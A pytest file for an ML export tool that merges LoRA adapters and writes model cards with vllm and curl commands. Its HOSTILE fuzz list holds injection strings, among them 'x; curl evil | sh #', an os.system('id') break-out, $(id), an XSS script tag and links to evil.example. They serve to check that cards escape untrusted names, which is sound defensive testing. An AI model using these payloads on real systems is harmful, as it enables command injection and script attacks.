"""pytest tests/test_export.py: merged models, adapter folders, and what their cards say."""

import ast
import contextlib
import io
import itertools
import json
import re
import shlex
import shutil
import subprocess
import sys
from functools import lru_cache
from pathlib import Path

import peft
import pytest
import torch
import yaml
from huggingface_hub import ModelCard
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from omegaconf import OmegaConf
from safetensors.torch import load_file
from transformers import AutoModelForCausalLM, AutoTokenizer

import model
import utils
from records import templates
from reporting import export
from reporting.card import INPUT, QUESTION, Card
from server import runs
from settings.compose import compose, record, resolve
from utils import PROJECT, UserError

CPU = torch.device("cpu")
QUESTIONS = [
    json.loads(line)
    for line in (PROJECT / "assets/tiny_qa/test.jsonl").read_text().splitlines()
]


compose = lru_cache(compose)


@pytest.fixture(scope="module")
def saved(tmp_path_factory):
    @lru_cache
    def make(*overrides: str) -> Path:
        """An adapter of random weights, as of the seventh round of a run."""
        cfg = compose(" ".join(["experiment=quickstart", *overrides]))
        cfg = resolve(cfg)
        net = model.build(cfg["model"], cfg["peft"], 0, CPU)
        draw = torch.Generator().manual_seed(3)
        state = {
            name: value + torch.randn(value.shape, generator=draw) * 0.05
            for name, value in model.adapter_state(net).items()
        }
        settings = {**cfg["model"], "name": model.portable_name(cfg["model"]["name"])}
        about = {"round": 7, "template": cfg["dataset"]["template"], "model": settings}
        frame = model.skeleton(cfg["model"], cfg["peft"])
        tokenizer = model.load_tokenizer(cfg["model"]["name"])
        folder = tmp_path_factory.mktemp("adapter") / "peft_7"
        model.save_adapter(frame, state, tokenizer, about, folder)
        return folder

    return make


@pytest.fixture
def save(saved, tmp_path):
    """Puts such an adapter into a run's folder."""

    def put(*overrides: str) -> Path:
        return Path(shutil.copytree(saved(*overrides), tmp_path / "run/peft_7"))

    return put


def run(folder, *options: str):
    """The folder that the command line writes."""
    return export.export(export.parse([f"--peft-path={folder}", *options]))


def beside(folder) -> torch.nn.Module:
    """Base and adapter as they were trained, in float32, on what the base's bits unpack to.

    In eval() 8-bit layers would round their inputs to 8 bits as well.
    """
    net, _ = model.open_adapter(str(folder), model.read_about(str(folder)), CPU)
    return net.float().train()


def logits(net: torch.nn.Module) -> torch.Tensor:
    ids = torch.tensor([[1, 300, 400, 500, 600, 700]])
    with torch.no_grad():
        return net(input_ids=ids).logits


def answers(net, tokenizer, records, template: str = "alpaca") -> list[str]:
    """Greedy answers in plain transformers."""
    prompts = [
        templates.prompt(template, [templates.question(record)], tokenizer)
        for record in records
    ]
    tokenizer.padding_side = "left"
    batch = tokenizer.pad({"input_ids": prompts}, return_tensors="pt")
    ids = net.generate(**batch, max_new_tokens=12, do_sample=False)
    ids = ids[:, batch["input_ids"].shape[1] :]
    return tokenizer.batch_decode(ids, skip_special_tokens=True)


def load_plainly(folder):
    net = AutoModelForCausalLM.from_pretrained(folder)
    return net, AutoTokenizer.from_pretrained(folder)


@pytest.mark.slow
@pytest.mark.parametrize("bits", [4, 8, "null"])
def test_a_merged_model_answers_as_base_and_adapter(bits, save):
    folder = save(f"model.quantization={bits}")
    net, tokenizer = load_plainly(run(folder, "--merge"))
    together = beside(folder)
    torch.testing.assert_close(logits(net), logits(together), rtol=0, atol=1e-3)
    chosen = QUESTIONS[::40]
    merged = answers(net, tokenizer, chosen)
    assert merged == answers(together, tokenizer, chosen)
    with together.disable_adapter():
        assert merged != answers(together, tokenizer, chosen)


@pytest.mark.slow
def test_the_adapter_goes_into_the_base_as_it_was_quantised(save):
    folder = save()
    base = model.load_base("assets/tiny_llama", None, CPU).float()
    original = peft.PeftModel.from_pretrained(base, folder)
    net, _ = load_plainly(run(folder, "--merge"))
    assert (logits(net) - logits(original)).abs().max() > 0.1


@pytest.mark.slow
@pytest.mark.parametrize(
    "method", ["dora", "rslora", "ia3", "miss", "fourierft", "c3a", "shira"]
)
def test_other_methods_merge_as_well(method, save):
    folder = save(f"peft={method}")
    net, _ = load_plainly(run(folder, "--merge"))
    together = beside(folder)
    torch.testing.assert_close(logits(net), logits(together), rtol=0, atol=1e-3)
    with together.disable_adapter():
        assert (logits(net) - logits(together)).abs().max() > 0.05


@pytest.mark.slow
@pytest.mark.parametrize("method", ["prompt", "prefix", "ptuning"])
def test_what_no_weight_can_take_up_is_not_merged(method, save, monkeypatch):
    folder = save(f"peft={method}")
    with monkeypatch.context() as patch:
        patch.setattr(model, "load_base", lambda *_: pytest.fail("the base is loaded"))
        with pytest.raises(UserError, match="without --merge"):
            run(folder, "--merge")
    shared = run(folder)
    assert "vllm serve" not in (shared / "README.md").read_text()
    base = model.load_base("assets/tiny_llama", 4, CPU).float()
    opened = peft.PeftModel.from_pretrained(base, shared)
    assert torch.equal(logits(opened), logits(beside(folder)))


@pytest.mark.slow
def test_a_merged_folder_holds_a_plain_model(save):
    folder = run(save(), "--merge")
    assert folder.name == "merged_7"
    assert {file.name for file in folder.iterdir()} == {
        "README.md",
        "chat_template.jinja",
        "config.json",
        "generation_config.json",
        "model.safetensors",
        "tokenizer.json",
        "tokenizer_config.json",
    }
    config = json.loads((folder / "config.json").read_text())
    assert config["dtype"] == "float32"
    assert "quantization_config" not in config
    assert "blocked" not in str(config)  # our attention, which others do not have
    generation = json.loads((folder / "generation_config.json").read_text())
    net, tokenizer = load_plainly(folder)
    assert generation["eos_token_id"] == tokenizer.eos_token_id
    assert {p.dtype for p in net.parameters()} == {torch.float32}
    card = ModelCard.load(folder / "README.md")
    assert card.data.library_name == "transformers"
    assert card.data.base_model_relation == "finetune"
    training = model.load_tokenizer("assets/tiny_llama")
    assert tokenizer.chat_template == templates.chat_template("alpaca", training)
    for question in QUESTIONS[:5]:
        asked = [templates.question(question)]
        base = model.load_tokenizer("assets/tiny_llama")
        assert templates.prompt("alpaca", asked, tokenizer) == templates.prompt(
            "alpaca", asked, base
        )


def test_answers_end_where_training_ended_them(save):
    folder = save()
    tokenizer = AutoTokenizer.from_pretrained(folder)
    net = AutoModelForCausalLM.from_pretrained(PROJECT / "assets/tiny_llama")
    for ends, wanted in (([7, 2], [2, 7]), (2, 2), (7, [2, 7]), (None, 2)):
        net.generation_config.eos_token_id = ends
        export.end_with(net.generation_config, tokenizer, "alpaca")
        assert net.generation_config.eos_token_id == wanted


@pytest.mark.slow
@pytest.mark.parametrize("method", ["lora", "rslora"])
def test_an_adapter_folder_is_what_vllm_takes(method, save):
    # vllm/lora/peft_helper.py and lora_model.py: these settings, and these names.
    source = save(f"peft={method}")
    folder = run(source)
    settings = json.loads((folder / "adapter_config.json").read_text())
    assert {"r", "lora_alpha", "target_modules"} <= settings.keys()
    assert settings["base_model_name_or_path"] == "assets/tiny_llama"
    assert settings["bias"] == "none"
    assert not settings["modules_to_save"]
    assert not settings["use_dora"]
    names = load_file(folder / "adapter_model.safetensors").keys()
    shape = re.compile(
        r"base_model\.model\.(model\.layers\.\d+\.\w+\.(\w+))\.lora_[AB]\.weight"
    )
    modules = {shape.fullmatch(name)[2] for name in names}
    assert modules == set(settings["target_modules"])
    assert not {file.suffix for file in folder.iterdir()} & {".bin", ".pt", ".pkl"}
    [command] = re.findall("^vllm serve .*$", (folder / "README.md").read_text(), re.M)
    allowed = int(re.search(r"--max-lora-rank (\d+)", command)[1])
    assert settings["r"] <= allowed
    assert f"--lora-modules {folder.name}=./{folder.name}" in command
    base = model.load_base("assets/tiny_llama", 4, CPU).float()
    opened = peft.PeftModel.from_pretrained(base, folder)
    assert torch.equal(logits(opened), logits(beside(source)))
    # It is still one of ours, for test.py.
    assert model.read_about(str(folder))["template"] == "alpaca"


@pytest.mark.parametrize(
    "setting",
    ["peft=dora", "peft=ia3", "+peft.modules_to_save=[lm_head]", "+peft.bias=all"],
)
def test_a_card_does_not_send_to_vllm_what_it_refuses(setting, save):
    text = (run(save(setting)) / "README.md").read_text()
    assert "--lora-modules" not in text
    assert "--merge" in text


def leave(folder: Path, rounds: int = 9) -> None:
    """What a run leaves beside its adapters."""
    cfg = "experiment=quickstart num_clients=4 strategy=fedadam partitioner=dirichlet"
    record(compose(cfg), [], folder)
    client = {"num-examples": 160, "records": 90, "train_loss": 1.0}
    clients = [{"partition": i, **client} for i in (0, 1)]
    held = [{"partition": i, "num-examples": 10 + i, "eval_loss": 1.0} for i in (0, 1)]
    counts = ("bytes_down", "bytes_up", "peak_memory_client", "peak_memory_server")
    entries = [
        {
            "round": n,
            "train_loss": n / 8,
            "sampled": 2,
            "eval_loss": n / 4,
            "clients": clients,
            "eval_clients": held,
            "failures": [],
            **dict.fromkeys(counts, 1),
        }
        for n in range(1, rounds + 1)
    ]
    utils.write_json(folder / "history.json", {"rounds": entries})
    whole = ("train_loss_first", "train_loss_last", "failures", "seconds", *counts)
    summary = {"rounds": rounds, "exact_match_before": 0.0, "exact_match_after": 0.9791}
    utils.write_json(folder / "summary.json", dict.fromkeys(whole, 1) | summary)
    answer = dict.fromkeys(("instruction", "input", "output", "base", "tuned"), "")
    utils.write_json(folder / "answers.json", [answer] * 335)


def table_rows(text: str) -> dict[str, str]:
    """The tables of a card as they are shown: first cell to the others."""
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    shown: list[list[str]] = []
    for token, inside in itertools.pairwise(tokens):
        if token.type == "tr_open":
            shown.append([])
        if token.type in ("td_open", "th_open"):
            shown[-1].append("".join(part.content for part in inside.children))
    return {first: " | ".join(rest) for first, *rest in shown}


def test_a_card_tells_what_the_run_tells(save):
    source = save()
    leave(source.parent, rounds=7)
    folder = run(source, "--license=apache-2.0")
    card = ModelCard.load(folder / "README.md")
    assert card.data.base_model == "assets/tiny_llama"
    assert card.data.license == "apache-2.0"
    assert card.data.library_name == "peft"
    assert card.data.base_model_relation == "adapter"
    assert card.data.datasets is None  # a local file is nothing on the hub
    assert {"federated-learning", "lora"} <= set(card.data.tags)
    rows = table_rows(card.text)
    commit = subprocess.run(
        ["git", "rev-parse", "HEAD"], cwd=PROJECT, capture_output=True, text=True
    )
    assert rows["base"] == "assets/tiny_llama, in 4 bits (nf4, doubly quantised)"
    assert rows["method"].startswith("LoRA, r 16, lora_alpha 32")
    assert rows["data of the run"] == "assets/tiny_qa/train.jsonl"
    assert rows["partitioner"] == "DirichletPartitioner"
    assert rows["clients"] == "4"
    assert rows["clients a round"] == "2"
    assert rows["rounds"] == "7"
    assert rows["strategy"] == "FedAdam"
    assert rows.get("commit of llm-flowertune", "") == commit.stdout.strip()
    assert f"peft {peft.__version__}" in rows["exported with"]
    assert rows["train loss, nats per answer token"] == "0.875"
    assert rows["records to train on"] == "180 of 2 clients that took part"
    assert rows["learning rate"].startswith("0.003, by a cosine over the rounds")
    assert rows["a client's round"] == "10 steps"
    assert rows["batch"] == "16 examples"
    assert rows["longest example, tokens"] == "128"
    assert rows["seed"] == "0"
    assert rows["updates sent in"] == "float16"
    assert rows["eval loss"] == " | 1.75 | nats per answer token"
    assert rows["exact match"].startswith("0 | 0.9791 | share of answers")
    shown = card.text.replace("\\", "")
    assert "the 335 of assets/tiny_qa/test.jsonl" in shown
    assert "21 records that 2 clients held back" in shown
    assert "cut at 12 tokens" in shown
    # The prompt of a record with an input is training's too.
    tokenizer = AutoTokenizer.from_pretrained(source)
    asked = {"instruction": QUESTION, "input": INPUT}
    prompt = templates.text("alpaca", [asked], tokenizer)
    assert f"```text\n{prompt}\n```" in card.text


def test_an_earlier_rounds_card_does_not_boast_of_the_last(save):
    source = save()
    leave(source.parent)
    text = (run(source) / "README.md").read_text()
    assert table_rows(text)["train loss, nats per answer token"] == "0.875"
    assert "exact match" not in text


def test_a_hub_dataset_is_named_and_a_licence_is_not_made_up(save):
    source = save()
    leave(source.parent)
    path = source.parent / ".hydra/config.yaml"
    cfg = OmegaConf.load(path)
    cfg.dataset.name, cfg.dataset.path = "vicgalle/alpaca-gpt4", None
    OmegaConf.save(cfg, path)
    path = run(source) / "README.md"
    card = ModelCard.load(path)
    assert card.data.datasets == ["vicgalle/alpaca-gpt4"]
    assert card.data.license is None
    assert "No licence is stated yet" in card.text
    assert "# license:" in path.read_text()


@pytest.mark.slow
@pytest.mark.parametrize(
    ("template", "options"),
    [("alpaca", []), ("alpaca", ["--merge"]), ("vicuna", []), ("chat", ["--merge"])],
)
def test_the_code_of_a_card_asks_our_model_our_question(
    template, options, save, monkeypatch
):
    source = save(f"dataset.template={template}")
    folder = run(source, *options)
    text = (folder / "README.md").read_text()
    [code] = re.findall("```python\n(.*?)```", text, re.S)
    monkeypatch.chdir(folder.parent)
    (folder.parent / "assets").symlink_to(PROJECT / "assets")
    told: dict = {}
    with contextlib.redirect_stdout(io.StringIO()) as printed:
        exec(code, told)
    question = {"instruction": QUESTION, "input": ""}
    tokenizer = AutoTokenizer.from_pretrained(source)
    assert told["ids"][0].tolist() == templates.prompt(template, [question], tokenizer)
    # An adapter's code computes in bfloat16.
    together = logits(beside(source))
    torch.testing.assert_close(
        logits(told["model"]).float(), together, rtol=0, atol=1e-3 if options else 0.5
    )
    assert len(printed.getvalue()) > 1
    assert f"```text\n{told['prompt']}\n```" in text
    # A server is asked in the same words.
    [request] = re.findall("^curl .*$", text, re.M)
    body = json.loads(shlex.split(request)[-1])
    if template == "chat":
        assert body["messages"] == [{"role": "user", "content": QUESTION}]
    else:
        assert body["prompt"] == told["prompt"]


@pytest.mark.slow
@pytest.mark.parametrize("options", [[], ["--merge"]])
def test_no_path_of_this_machine_is_shared(options, save, tmp_path):
    base = tmp_path / "secret/my_llama"
    base.mkdir(parents=True)
    for file in (PROJECT / "assets/tiny_llama").iterdir():
        (base / file.name).symlink_to(file)
    source = save(f"model.name={base}")
    leave(source.parent)
    path = source.parent / ".hydra/config.yaml"
    cfg = OmegaConf.load(path)
    cfg.dataset.path = str(tmp_path / "secret/notes.jsonl")
    cfg.dataset.test_path = str(tmp_path / "secret/exam.jsonl")
    OmegaConf.save(cfg, path)
    folder = run(source, *options)
    card = ModelCard.load(folder / "README.md")
    assert card.data.base_model == "my_llama"
    assert "notes.jsonl" in card.text
    assert "The base, my_llama, was a folder on one machine" in card.text
    for file in folder.glob("*[!s]"):  # all but *.safetensors
        for secret in (str(tmp_path), str(PROJECT), "secret"):
            assert secret not in file.read_text(), file


def test_a_base_that_is_gone_is_named_by_its_last_part_alone(save):
    source = save()
    about = json.loads((source / model.ABOUT).read_text())
    about["model"]["name"] = "/srv/secret/my_llama"
    utils.write_json(source / model.ABOUT, about)
    folder = run(source)
    for file in folder.glob("*[!s]"):
        assert "secret" not in file.read_text()
    assert "was a folder on one machine" in (folder / "README.md").read_text()


def test_a_folder_that_is_there_stays_as_it_is(save, tmp_path):
    source = save()
    (taken := tmp_path / "mine").mkdir()
    (taken / "README.md").write_text("mine")
    for options in ([], ["--merge"]):
        with pytest.raises(UserError, match=r"mine exists already.*--out"):
            run(source, f"--out={taken}", *options)
    assert [file.name for file in taken.iterdir()] == ["README.md"]
    assert (taken / "README.md").read_text() == "mine"


def test_what_fails_half_way_leaves_nothing(save, monkeypatch):
    source = save()

    def full(*_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export, "save_tokenizer", full)
    with pytest.raises(UserError, match="No space left"):
        run(source, "--merge")
    assert [path.name for path in source.parent.iterdir()] == ["peft_7"]


WHOLE = [("answers.json", "[]")]  # nothing was asked
BROKEN = ["{", "[]", "[" * 5_000, "null", '{"rounds": 1}', "\x00", "a: b: c"]


@pytest.fixture(scope="module")
def card(tmp_path_factory):
    """Makes a card without a model: what it is told, in the places of foreign texts."""
    tokenizer = AutoTokenizer.from_pretrained(PROJECT / "assets/tiny_llama")
    folder = tmp_path_factory.mktemp("card")
    leave(folder, rounds=7)
    (folder / ".hydra/config.yaml").unlink()
    plain = resolve(compose("experiment=quickstart"))

    def make(base: str = "a/b", text: str = "plain", name="adapter_7", merged=False):
        model = {"name": base, "quantization": 4}
        settings = {"peft_type": "LORA", "r": 8, "target_modules": [text]}
        made = Card(
            name=name,
            merged=merged,
            license=None,
            about={"round": 7, "template": "alpaca", "model": model},
            settings=settings | {"lora_alpha": text},
            tokenizer=tokenizer,
            run=folder,
            local=True,
        )
        made.mode = "federated"
        made.cfg = plain | {
            "dataset": {"name": text, "path": text, "test_path": text},
            "strategy": {"_target_": text},
            "partitioner": {"_target_": text},
            "comm": {"dtype": text},
            "train": plain["train"] | {"learning_rate_max": text},
        }
        return made.text()

    return make


# What breaks out of Python, a shell, YAML, HTML, or one of Markdown's constructs.
HOSTILE = [
    'x/y", device_map="auto"); import os; os.system("id"); f("z',
    "x; curl evil | sh #",
    "$(id) `id` 'a' \"b\" \\",
    "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "![x](http://evil.example/x.png) [y](http://evil.example)",
    "http://evil.example www.evil.example a@evil.example",
    "a | b |\n| --- |\n\n# title\n\n<b>\n\n```\n</details>",
    "\n---\nlicense: mit\n---\n",
    "\u202eabc\u2066 \x1b[2J \x00",
    "-rf",
    "___",
    "'''\n\"\"\"",
]
hostile = st.one_of(
    st.lists(st.sampled_from(HOSTILE) | st.text(max_size=8), max_size=3).map("".join),
    st.text(max_size=30),
)

# What `export` lets pass of a folder's name.
named = hostile.map(lambda t: "".join(filter(str.isprintable, t)) or "x")


def anatomy(text: str) -> tuple[list[str], dict[str, list[str]]]:
    """The kinds of Markdown in a card, and its blocks of code by language."""
    body = ModelCard(text).text
    tokens = MarkdownIt("commonmark").enable("table").parse(body)
    kinds, blocks = [], {}
    for token in tokens:
        for part in (token, *(token.children or ())):
            kinds.append(part.type)
        if token.type == "fence":
            blocks.setdefault(token.info, []).append(token.content)
        elif token.type == "inline":
            bare = re.sub(r"\\.", "", token.content)
            assert not re.search(r"://|www\.|@", bare), "a link on GitHub"
    return kinds, blocks


def skeleton(code: str) -> tuple[str, list[str]]:
    """A program without its texts, and those."""
    tree = ast.parse(code)
    texts = [
        node
        for node in ast.walk(tree)
        if isinstance(node, ast.Constant) and isinstance(node.value, str)
    ]
    found = [node.value for node in texts]
    for node in texts:
        node.value = ""
    return ast.dump(tree), found


@pytest.mark.slow
@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(base=named, text=hostile, name=named)
@pytest.mark.parametrize("merged", [False, True])
def test_what_strangers_wrote_is_text_in_a_card(card, merged, base, text, name):
    name = name.replace("/", "") or "x"
    plain = card(merged=merged)
    told = card(base, text, name=name, merged=merged)
    kinds, blocks = anatomy(told)
    wanted, usual = anatomy(plain)
    assert {"html_block", "html_inline", "image", "link_open"}.isdisjoint(kinds)
    keep = ("table_open", "heading_open", "fence", "tr_open", "td_open")
    keep += ("em_open", "strong_open", "code_inline")
    assert [k for k in kinds if k in keep] == [k for k in wanted if k in keep]
    # Python: the same program, in which the name is one of the texts.
    shape, texts = skeleton(blocks["python"][0])
    assert shape == skeleton(usual["python"][0])[0]
    assert f"./{name}" in texts
    assert merged or base in texts
    # A shell: the same words, or the whole name as one of them.
    for block, other in zip(blocks["bash"], usual["bash"], strict=True):
        words = shlex.split(block)
        assert len(words) == len(shlex.split(other))
        if "curl" in words:
            assert json.loads(words[-1])["model"] in (name, f"./{name}")
        elif "--enable-lora" in words:
            assert words[2] == (f"./{base}" if base.startswith("-") else base)
            assert words[7] == f"{name}=./{name}"
    # The hub's own reader finds the name in the front matter.
    assert ModelCard(told).data.base_model == base
    assert ModelCard(told).data.license is None


@pytest.mark.parametrize("name", [HOSTILE[0], HOSTILE[1], "a b/c", "a\nb"])
def test_a_base_that_is_neither_a_name_nor_a_folder_is_refused(name, save):
    source = save()
    about = json.loads((source / model.ABOUT).read_text())
    about["model"]["name"] = name
    utils.write_json(source / model.ABOUT, about)
    with pytest.raises(UserError, match="neither a folder here nor a name of the hub"):
        run(source)
    assert [path.name for path in source.parent.iterdir()] == ["peft_7"]


@pytest.mark.parametrize(
    "text", ["${oc.env:MINE}", "a ${oc.env:MINE}", "${${mode}:MINE}"]
)
def test_a_run_does_not_ask_for_what_is_the_readers(text, tmp_path, monkeypatch):
    monkeypatch.setenv("MINE", "hf_SECRET")
    settings = {"mode": "oc.env", "seed": 3, "one": "${seed}", "other": [{"a": text}]}
    (tmp_path / ".hydra").mkdir()
    (tmp_path / ".hydra/config.yaml").write_text(yaml.safe_dump(settings))
    cfg = runs.read_config(tmp_path)
    assert cfg.one == 3
    assert "hf_SECRET" not in OmegaConf.to_yaml(cfg, resolve=True)
    assert "MINE" in cfg.other[0].a


@pytest.mark.slow
def test_broken_records_of_a_run_are_named(save):
    source = save()
    for name in ("history.json", "summary.json", "answers.json", ".hydra/config.yaml"):
        for content in BROKEN:
            leave(source.parent, rounds=7)
            (source.parent / name).write_text(content)
            if (name, content) in WHOLE:
                continue
            with pytest.raises(UserError, match=f"{name} is broken") as told:
                run(source)
            assert len(str(told.value).splitlines()) == 1
    # Whole, but for what a card reads.
    for key, value in (("eval_loss", "<b>"), ("train_loss", None), ("clients", [7])):
        leave(source.parent)
        history = json.loads((source.parent / "history.json").read_text())
        history["rounds"][6][key] = value
        utils.write_json(source.parent / "history.json", history)
        with pytest.raises(UserError, match=f"history.json is broken: .*{key}"):
            run(source)


@pytest.mark.slow
def test_the_quickstarts_model_gives_the_same_answers_merged(quickstart, tmp_path):
    def command(*words: str) -> subprocess.CompletedProcess:
        return subprocess.run(
            [sys.executable, *words],
            cwd=PROJECT,
            capture_output=True,
            text=True,
            timeout=600,
        )

    folder = shutil.copytree(quickstart[0], tmp_path / "run")
    done = command("-m", "reporting.export", f"--peft-path={folder}/peft_20", "--merge")
    assert done.returncode == 0, done.stderr
    assert done.stderr == ""
    assert f"Written: {folder}/merged_20" in done.stdout
    again = command(
        "-m", "reporting.export", f"--peft-path={folder}/peft_20", "--merge"
    )
    assert again.returncode == 1
    assert again.stderr.startswith("error: ")
    assert "exists already" in again.stderr

    card = (folder / "merged_20/README.md").read_text()
    summary = json.loads((folder / "summary.json").read_text())
    assert f"| exact match | 0 | {summary['exact_match_after']:.4g} |" in card
    net, tokenizer = load_plainly(folder / "merged_20")
    together = beside(folder / "peft_20")
    merged = answers(net, tokenizer, QUESTIONS)
    assert merged == answers(together, tokenizer, QUESTIONS)
    right = [a == q["output"] for a, q in zip(merged, QUESTIONS, strict=True)]
    assert sum(right) / len(right) > 0.95
    # The run itself computes in bfloat16 where it can, and there a tie may turn.
    told = json.loads((folder / "answers.json").read_text())
    same = [a == t["tuned"] for a, t in zip(merged, told, strict=True)]
    assert sum(same) >= len(same) - 2


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (["--peft-path=/nowhere"], "there is no such folder"),
        (["--peft-path=conf"], "adapter_config.json is missing"),
        ([], "--peft-path"),
    ],
)
def test_what_is_no_adapter_is_explained(options, message, monkeypatch, capsys):
    monkeypatch.chdir(PROJECT)
    monkeypatch.setattr(sys, "argv", ["export", *options])
    with pytest.raises(SystemExit) as ended:
        export.main()
    said = capsys.readouterr().err
    assert ended.value.code in (1, 2)
    assert message in said
    assert "Traceback" not in said
